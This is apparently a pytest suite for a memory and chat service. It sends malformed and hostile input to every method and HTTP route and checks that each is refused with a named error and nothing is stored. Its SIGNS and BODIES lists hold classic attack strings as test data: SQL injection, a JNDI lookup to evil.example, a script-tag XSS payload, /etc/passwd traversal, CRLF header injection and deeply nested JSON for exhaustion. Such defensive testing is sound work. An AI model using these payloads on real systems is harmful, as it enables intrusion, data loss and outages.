"""Bad input: every method and every route with hostile arguments. The error names the argument, and nothing is changed."""

import gzip
import http.client
import json
import socket
from collections.abc import Iterator
from contextlib import suppress
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from patience import LIMIT

from recollect import Chat, InvalidInput, Memory, NewMemory, NotFound

from .conftest import SERVICE_KEY, As, Http, Service
from .methods import FACT, Method, call, methods

NUL, HALF = "a\x00b", "lone \ud800"
LONG = "x" * 300

_IDS = [5, ["id"], NUL, HALF]
_TIMES = ["yesterday", 5, "2026-02-30", ""]
_NAMES = ["", LONG, NUL, 5]
_FLAGS = ["yes", 1]
_COUNTS = [-1, "5", 1.5, True]
#: What an argument may not be, by its name, or by its method and name.
BAD: dict[str, list[Any]] = {
    "content": [5, NUL * 5, HALF * 3, "short", "x" * 501, "What is the capital of France?"], "items": ["a text", 5, None],
    "query": ["  ", NUL, HALF, 5], "text": ["", " \n", NUL, 5, "x" * 200_001], "category": ["nonsense"],
    "importance": [11, -1, float("nan"), float("inf"), True, "8"], "pinned": _FLAGS, "persona": _NAMES, "type": ["x"],
    "tags": ["one", [""], [5], ["t" * 101], [str(number) for number in range(51)], 5, [NUL]], "tag": [NUL, 5],
    "user": ["", " ", "*", LONG, NUL, HALF, 5, None], "limit": [0, -1, "many", True], "cursor": ["nonsense", "", "WzFd", 5],
    "entity": ["jane", "", "animal:rex"], "since": _TIMES, "until": _TIMES, "as_of": _TIMES, "at": _TIMES, "due_before": _TIMES,
    "due_at": _TIMES, "created_at": _TIMES, "zone": ["Atlantis", "../etc/passwd", "", NUL], "messages": _COUNTS,
    "neighbours": _COUNTS, "sessions": _COUNTS, "chat": [NUL, 5], "status": ["GONE", 5], "kind": ["chore", 5], "memory_id": _IDS,
    "message_id": _IDS, "chat_id": _NAMES, "pin_id": _IDS, "todo_id": _IDS, "proposal_id": _IDS, "message": [NUL, 5],
    "memory": [NUL, 5], "todo": [NUL, 5], "key": ["jane", "", 5, None], "alias": ["jane", 5], "into": ["ann", None],
    "of": ["ann"], "session": [NUL, 5], "tokens": [0, 199, -5, "lots", 10**30, True, 1.5], "importance_score": [11, -1, True, "high"],
    "pin_type": ["sticky", 5], "source_message_id": [NUL, ""], "source_message_ids": ["m1", [5], [""]], "revisions": _FLAGS,
    "version": [0, -1, "x", 1.5, True], "revision": [0, -1, "x"], "dry_run": _FLAGS, "accept": [*_FLAGS, None],
    "facts": ["I live in Graz", [5], [{}], [{"content": "x"}], [{"content": FACT, "colour": "red"}], [{"content": FACT}] * 201],
    "notes": ["x" * 4001, NUL, None, 5], "include": [["secrets"], [], "memories", 5], "timeout": [-1, "x", float("nan")],
    "document": ["nonsense", 7, None, {}, {"recollect": 99, "memories": []}], "format": ["x"], "around": [NUL, 5],
    "start_message_id": _IDS, "end_message_id": _IDS, "message_count": [0, -1, "two", 1.5, True], "title": [5, "x" * 201, NUL],
    "assistant": ["", [5]], "system": [5, ""], "tool": [5, ""], "model_id": [NUL, ""], "model_variant": [LONG],
    "token_usage": [-1, 1.5, "7", 2**53], "idempotency_key": ["", LONG, NUL], "keep": [5, NUL],
    "reason": [HALF * 5, 5], "Memory.add.reason": ["short", "x" * 201], "Memory.merge.reason": [],
    "Memory.update_pin.content": ["", "x" * 2001, NUL, 5], "Chat.pin.content": ["", "x" * 2001, NUL, 5, None],
    "Memory.add_todo.text": ["", "x" * 2001, NUL, 5], "Memory.update_todo.text": ["", "x" * 2001, NUL, 5],
    "Chat.add.messages": ["text", 5, [5], [{}], [{"role": "robot", "text": "a"}], [{"role": "user", "text": "a", "mood": "b"}], []],
    "Chat.add.user": ["", "  ", NUL, "x" * 200_001, 5], "Chat.messages.cursor": ["nonsense", "", 5],
    # Each fact is refused by itself; nothing is named to forget; a filter that fits nothing is none.
    "Memory.add_many.persona": [], "Memory.forget.user": [], "Memory.search.persona": [NUL, 5], "Memory.memories.persona": [NUL, 5],
}  # fmt: skip
#: What an argument is called in a sentence besides.
CALLED = {
    "items": "add many",
    "key": "entity",
    "alias": "entity",
    "into": "entity",
    "facts": "fact",
    "document": "export",
}
#: Not checked: a callback and two switches.
FREE = {"everything", "past", "progress"}


@pytest.fixture
def things(ann: As) -> dict[str, Any]:
    """One thing of each kind."""
    chat = ann.chat("c")
    message = chat.add(user="Hello there, how are you?").messages[0].message_id
    return {
        "memory": ann.add(FACT).memory.memory_id, "message": message, "start": message, "end": message, "chat": "c",
        "pin": chat.pin("The gate is green").pin_id, "todo": ann.add_todo("Call Jane").todo_id, "proposal": "nothing",
        "entity": "person:jane", "alias": "person:ann",
    }  # fmt: skip


def refusal(target: Any, method: Method, things: dict[str, Any], name: str, value: Any) -> str:
    """What is wrong with how a value is refused; empty: nothing."""
    shown = f"{method[0]}({name}={ascii(value)[:50]})"
    try:
        call(target, method, things, **{name: value})
    except InvalidInput as error:
        said = f"{error.field} {error.message}".lower().replace("_", " ")
        named = name.replace("_", " ") in said or CALLED.get(name, "\0") in said
        within = name == "messages" and error.field in ("role", "text", "mood", "messages")
        sound = 5 < len(error.message) < 400 and "Traceback" not in error.message
        return "" if (named or within) and sound else f"{shown} says {error.field!r}: {error.message!r}"
    except NotFound:
        return ""
    except Exception as error:
        return f"{shown} raised {error!r}"
    return f"{shown} was accepted"


def test_every_method_refuses_what_it_cannot_take(ann: As, things: dict[str, Any]) -> None:
    """Every argument of every method: `InvalidInput` with its name, or not found; nothing is another afterwards."""
    before = {**ann.export(), "exported_at": ""}
    problems: list[str] = []
    for kind, target in ((Memory, ann), (Chat, ann.chat("c"))):
        for method in methods(kind):
            for item in method[1]:
                values = BAD.get(f"{method[0]}.{item.name}", BAD.get(item.name))
                assert values is not None or item.name in FREE, f"{method[0]}: what may {item.name} not be?"
                whose = ann.memory if item.name == "user" and kind is Memory else target
                problems += [refusal(whose, method, things, item.name, value) for value in values or ()]
    if any(problems):
        pytest.fail("\n".join(filter(None, problems)))
    assert {**ann.export(), "exported_at": ""} == before


NEW: list[tuple[dict[str, Any], str]] = [
    ({"entity_refs": ["john"]}, "entity"), ({"entity_refs": ["animal:rex"]}, "entity"), ({"entity_refs": {"person": "a"}}, "entity_refs"),
    ({"subtype": "person"}, "subtype"), ({"subtype": {"colour": 1}}, "subtype"), ({"type": "OTHER"}, "type"),
    ({"origin": "nobody"}, "origin"), ({"source": "nowhere"}, "source"), ({"confidence": 2}, "confidence"),
    ({"source_message_ids": [""]}, "source_message_ids"), ({"source_message_ids": "m1"}, "source_message_ids"),
    ({"source_context": "x" * 2001}, "source_context"), ({"origin": "assistant", "pinned": True}, "pinned"),
]  # fmt: skip


@pytest.mark.parametrize(("values", "field"), NEW, ids=str)
def test_a_new_memory_is_checked_where_it_is_added(ann: As, values: dict[str, Any], field: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        ann.add(NewMemory(FACT, **values))
    assert field in f"{refused.value.field} {refused.value.message}".lower()
    assert ann.known() == []


# -- over HTTP ----------------------------------------------------------------------------------------------

#: What a value of a type is not, and what it may be.
_NOT: dict[str, tuple[Any, ...]] = {
    "string": (5, {}), "integer": ("1", 1.5, True), "number": ("1", True), "boolean": ("true", 1),
    "array": ("none", {"0": "none"}), "object": ("none", ["none"]),
}  # fmt: skip
_OF: dict[str, object] = {
    "string": "none",
    "integer": 1,
    "number": 1,
    "boolean": True,
    "array": [],
    "object": {},
}


def _kinds(schema: dict[str, Any]) -> set[str]:
    return {part.get("type", "object") for part in schema.get("anyOf", [schema])}


def _bodies(described: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any]]]:
    """Method, path and fields of every request with a body whose fields are all known."""
    for path, operations in described["paths"].items():
        for method, operation in operations.items():
            schema = (
                operation.get("requestBody", {})
                .get("content", {})
                .get("application/json", {})
                .get("schema", {})
            )
            for part in schema.get("anyOf", [schema]):
                shape = described["components"]["schemas"].get(part.get("$ref", "").rpartition("/")[2], part)
                if shape.get("additionalProperties") is False:
                    yield method.upper(), path.replace("{", "").replace("}", ""), shape


def test_a_field_of_a_wrong_type_is_named(service: Service, http: Http) -> None:
    """Every field of every body refuses every type that it is not, unknown fields are refused, and the sentence names it."""
    tried = 0
    for method, path, shape in _bodies(service.described):
        allowed = {name: _kinds(schema) for name, schema in shape["properties"].items()}
        required = {name: _OF[min(allowed[name] - {"null"})] for name in shape.get("required", ())}
        fields: dict[str, list[Any]] = {"no_such_field": [1]}
        for name, kinds in allowed.items():
            wrong = [value for value in _NOT[min(kinds - {"null"})] if "object" not in kinds or value != {}]
            fields[name] = wrong if "null" in kinds else [*wrong, None]
        for name, values in fields.items():
            for value in values:
                answer = http.request(method, path, json={**required, name: value})
                assert answer.status_code == 400, (method, path, name, value, answer.text)
                assert name in answer.json()["error"], (method, path, name, value, answer.text)
                tried += 1
    assert tried > 150
    assert http.get("/memories/stats").json()["total"] == 0


def test_a_parameter_of_a_wrong_value_is_named(service: Service, http: Http) -> None:
    """Every query parameter of every route: not a number, below the least, above the most, NUL, not UTF-8."""
    http.post("/v1/chats/c/messages", json={"messages": [{"role": "user", "text": "Hello."}]})
    http.post("/memories", json={"content": FACT})
    for path, operations in service.described["paths"].items():
        given = [item for item in operations.get("get", {}).get("parameters", ()) if item["in"] == "query"]
        if path.startswith(("/auth", "/v1/users", "/metrics", "/v1/models")):
            continue
        address = (
            path.replace("{session_id}", "c").replace("{chat_id}", "c").replace("{", "").replace("}", "")
        )
        needed = {item["name"]: "c" for item in given if item.get("required")}
        for item in given:
            kinds = _kinds(item["schema"])
            bad = (
                ["x", "1.5", "0" if item["name"] in ("limit", "version") else "-1", "9" * 30]
                if "integer" in kinds
                else ["%00"]
            )
            for value in ["maybe"] if "boolean" in kinds else bad:
                query = "&".join(
                    [
                        *(f"{name}={word}" for name, word in needed.items() if name != item["name"]),
                        f"{item['name']}={value}",
                    ]
                )
                answer = http.get(f"{address}?{query}")
                assert answer.status_code == 400, (path, item["name"], value, answer.text)
                assert answer.json()["error"], (path, item["name"], value)


def _exchange(
    url: str, method: str, target: str, headers: list[tuple[str, str]], body: bytes = b""
) -> tuple[int, bytes]:
    """The answer to a request whose every byte is the test's own."""
    address = urlsplit(url)
    lines = [
        f"{method} {target} HTTP/1.1",
        "Host: 127.0.0.1",
        "Connection: close",
        *(f"{name}: {text}" for name, text in headers),
    ]
    if body and not any(name in ("Content-Length", "Transfer-Encoding") for name, _ in headers):
        lines.append(f"Content-Length: {len(body)}")
    with socket.create_connection((address.hostname, address.port), timeout=LIMIT) as connection:
        with suppress(ConnectionError):  # who refuses early need not hear the rest
            connection.sendall("\r\n".join([*lines, "", ""]).encode("utf-8", "surrogateescape") + body)
        answer = http.client.HTTPResponse(connection, method=method)
        answer.begin()
        return answer.status, answer.read()


def _fact(content: bytes) -> bytes:
    return b'{"category": "fact", "content": "' + content + b'"}'


JSON = ("Content-Type", "application/json")
#: Bodies that are no JSON, or JSON that no database can keep, with the status and a word of the sentence.
BODIES: list[tuple[bytes, int, str]] = [
    *((body, 400, "") for body in (
        b"", b"{", b"null", b"42", b'"content"', b'{"content": }', b"{'content': 'User keeps a kettle'}", _fact(FACT.encode()) + b" x",
        _fact(FACT.encode()).decode().encode("utf-16"), _fact("User grüßt in Köln".encode("latin-1")),
        _fact(b"User keeps \xed\xa0\x80 kettles"), _fact(b"User keeps \x00 kettles"), _fact(b"User keeps \\ud800 kettles"),
        b'{"content": "User keeps a kettle", "\\ud800": 1}', b'{"content": "User keeps a kettle", "importance": NaN}',
        b'{"content": "User keeps a kettle", "importance": 1e999}', b'{"content": "User keeps a kettle", "importance": ' + b"9" * 5000 + b"}",
        b"content=User+keeps+a+kettle", b'[5, null]', b'["User keeps a kettle"]', b'[{"content": 5}]',
    )),
    (b"[" * 100_000 + b"]" * 100_000, 400, "64"), (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, 400, "64"),
    (json.dumps([{"content": FACT}] * 1001).encode(), 400, "1000"), (_fact(b"a" * 9 * 2**20), 413, "8 MB"),
]  # fmt: skip


@pytest.mark.parametrize("number", range(len(BODIES)))
def test_a_hostile_body_is_refused(service: Service, user: str, http: Http, number: int) -> None:
    """With its status and a sentence; nothing is stored, and the service lives."""
    body, status, word = BODIES[number]
    entry = [("Authorization", f"Bearer {SERVICE_KEY}"), ("X-User-Id", user), JSON]
    code, answer = _exchange(service.url, "POST", "/memories", entry, body)
    assert code == status, answer[:300]
    sentence = json.loads(answer)["error"]
    assert 5 < len(sentence) < 500 and word in sentence and "Traceback" not in sentence
    packed = gzip.compress(body or b" ")
    assert _exchange(service.url, "POST", "/memories", [*entry, ("Content-Encoding", "gzip")], packed)[0] in (
        400,
        413,
    )
    assert http.get("/memories").json()["memories"] == []


@pytest.mark.parametrize("target", ["/memories/%ED%A0%80", "/v1/chats/%FF", "/v1/chats/a%00b", "/v1/chats/%20", f"/v1/chats/{LONG}",
                                    "/memories/%00", "/v1/entities/bob", "/v1/tools?format=%ED%A0%80"])  # fmt: skip
def test_a_hostile_address_is_refused(http: Http, target: str) -> None:
    answer = http.get(target)
    assert answer.status_code == 400 and answer.json()["error"]


@pytest.mark.parametrize("given", ["", " ", "*", LONG], ids=ascii)
def test_a_user_that_is_none_is_refused(service: Service, given: str) -> None:
    entry = [("Authorization", f"Bearer {SERVICE_KEY}"), ("X-User-Id", given), JSON]
    status, answer = _exchange(service.url, "POST", "/memories", entry, _fact(FACT.encode()))
    assert status == 400 and b"X-User-Id" in answer


#: What means something to SQL, LIKE, full-text search, templates or terminals.
SIGNS = [
    "' OR 1=1 --", '"; DROP TABLE memories; --', "%", "_", "kettle*", "NEAR(kettle, 5)", "content:kettle", "kettle AND NOT",
    '"kettle', "^kettle", "-kettle", "(((((", "\\", "$1", ":user_id", "?", "{{7*7}}", "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>", "../../etc/passwd", "kettle\r\nSet-Cookie: x=1", "ﷺ \u202egnirts desrever\u202c", "👩‍👩‍👧‍👦 Z̶̧algo",
]  # fmt: skip


@pytest.mark.parametrize("words", SIGNS)
def test_signs_of_other_languages_are_words(ann: As, words: str) -> None:
    """They find what they say and no more, and come back as they were said."""
    ann.add(FACT)
    assert {hit.content for hit in ann.search(words)} <= {FACT}
    assert ann.memories(tag=words) == []
    with pytest.raises((NotFound, InvalidInput)):
        ann.get(words)
    ann.chat("c").add(user=words)
    assert [message.text for message in ann.chat("c").messages()] == [words]
    assert ann.chat("c").context(words, tokens=400).tokens <= 400
    assert ann.memory.chats(user=ann.user + quote(words, safe="")[:50]) == []
